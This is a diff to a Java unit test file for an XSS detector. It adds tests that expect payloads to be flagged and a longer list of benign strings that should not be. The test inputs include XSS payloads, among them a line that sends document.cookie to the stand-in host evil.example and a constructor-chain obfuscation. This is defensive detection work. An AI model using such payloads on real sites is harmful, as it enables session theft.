@@ -354,6 +354,26 @@ class XssDetectorTest {
         }
 
         @Test
+        void detectsHandlerAssignedOnGlobal() {
+            assertThat(standard("window.onerror=alert;throw 1")).contains("XSS-DOM-SINK");
+        }
+
+        @Test
+        void detectsCookieExfiltrationThroughLocation() {
+            assertThat(standard("document.location='//evil.example/?c='+document.cookie")).contains("XSS-DOM-SINK");
+        }
+
+        @Test
+        void ignoresQuestionAboutDomMethod() {
+            assertThat(standard("What does document.getElementById return?")).isEmpty();
+        }
+
+        @Test
+        void ignoresAlternativesInParentheses() {
+            assertThat(standard("Please confirm(yes/no)")).isEmpty();
+        }
+
+        @Test
         void detectsConstructorChain() {
             assertThat(standard("[].constructor.constructor('alert(1)')()")).contains("XSS-JS-OBFUSCATION");
         }
@@ -444,7 +464,14 @@ class XssDetectorTest {
                     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
                     "Settings --> Privacy", "if (a < b) { return a; }", "online=1&theme=dark",
                     "BLAH <A HREF=\"/PATH1/PATH2\">FOO</A>", "<span class=\"show-text\">regardez</span>",
-                    "pr_shop\">MamaBearBabyWear</a>", "document.pdf", "top.example.com")) {
+                    "pr_shop\">MamaBearBabyWear</a>", "document.pdf", "top.example.com",
+                    "Learn JavaScript: A Beginner's Guide (2nd Edition)", "javascript developer jobs in london",
+                    "How do I use the onload event in React?", "List<Map<String, Object>> rows = new ArrayList<>();",
+                    "<b>Bold</b> and <i>italic</i> text", "<p>Hello <br/> world</p>", "=SUM(A1:A10)",
+                    "C:\\Program Files\\App\\bin\\app.exe", "The eval (evaluation) period ends soon",
+                    "window cleaning service near me", "location: Berlin, Germany", "mailto:john@example.com",
+                    "data: 5 rows updated", ":) :( :-> <-- arrow",
+                    "Error: Cannot read properties of undefined (reading 'map') at Object.<anonymous> (/app/index.js:10:5)")) {
                 assertThat(standard(value)).as(value).isEmpty();
             }
         }
